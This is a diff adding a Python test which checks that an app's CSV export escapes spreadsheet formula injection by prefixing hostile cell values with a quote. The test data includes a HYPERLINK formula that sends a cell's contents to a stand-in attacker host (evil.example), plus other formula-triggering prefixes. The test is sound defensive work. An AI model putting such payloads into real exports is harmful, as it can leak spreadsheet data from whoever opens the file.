@@ -248,3 +248,19 @@ def test_an_import_without_a_user_sees_no_upload(master, export_root: Path):
             JobContext(job_id=0, job_type="jsonl_import", user_id=None, worker="w"),
             filename="upload_260603_nouserxx.jsonl",
         )
+
+
+def test_csv_cells_that_would_run_as_formulas_arrive_as_text(master, admin, export_root: Path):
+    """A device registered anonymously as `=HYPERLINK(…)` reaches the admin's spreadsheet as text."""
+    from pool.services import device_create, task_create
+
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+    for name in hostile:
+        device, _ = device_create(name=name, kind="sensor", validated=True)
+        task_create(user=master, to=f"device:{device.pk}", title=name)
+    _job, name = run_export(admin, "csv", {"datasets": ["pool"], "everything": True})
+    with (export_root / name).open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    titles = [row["title"] for row in rows if row["dataset"] == "pool"]
+    assert sorted(titles) == sorted("'" + name for name in hostile)
+    assert all(not title.startswith(("=", "+", "-", "@", "\t", "\r")) for title in titles)
